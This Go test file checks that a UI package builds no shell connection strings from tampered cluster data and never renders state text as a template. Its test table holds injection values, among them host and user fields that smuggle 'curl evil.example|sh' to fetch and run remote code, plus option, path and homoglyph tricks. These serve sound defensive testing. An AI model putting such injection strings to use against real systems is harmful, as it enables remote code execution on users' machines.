package ui

import (
	"strings"
	"testing"

	"canopy/api"
)

// These look inside the package: the sandbox tells no such things, and a host that does has been
// taken over.

func TestAnAddressThatIsMoreThanOneIsNotOfferedToAShell(t *testing.T) {
	good := api.Cluster{UserPrefix: "3ab-x_9", Public: api.Endpoint{Host: "gateway01.us-east-1.prod.aws.tidbcloud.com", Port: 4000}}
	if got := connectionStrings(good); len(got) == 0 {
		t.Fatal("an ordinary cluster has no connection string")
	}
	for what, alter := range map[string]func(*api.Cluster){
		"a quote in the host":       func(c *api.Cluster) { c.Public.Host = "x'; curl evil.example|sh; '" },
		"a path in the host":        func(c *api.Cluster) { c.Public.Host = "h/?allowLoadLocalInfile=true&x=" },
		"an option for a host":      func(c *api.Cluster) { c.Public.Host = "-Ddebug" },
		"a line break in the user":  func(c *api.Cluster) { c.UserPrefix = "x\ncurl evil.example|sh\n" },
		"a quote in the user":       func(c *api.Cluster) { c.UserPrefix = "x'" },
		"a port that there is not":  func(c *api.Cluster) { c.Public.Port = 70000 },
		"no host":                   func(c *api.Cluster) { c.Public.Host = "" },
		"a letter that looks alike": func(c *api.Cluster) { c.Public.Host = "gаteway.example" },
	} {
		c := good
		alter(&c)
		if got := connectionStrings(c); got != nil {
			t.Errorf("%s: offered is %q", what, got)
		}
	}
}

func TestAStateIsNeverRunAsATemplate(t *testing.T) {
	for _, state := range []api.State{`X{{printf "%030d" 7}}`, `{{range 9}}Y{{end}}`, `{{.Count}}`} {
		if got := stateWords(state); !strings.EqualFold(got, state.Words()) {
			t.Errorf("%q is shown as %q", state, got)
		}
	}
}
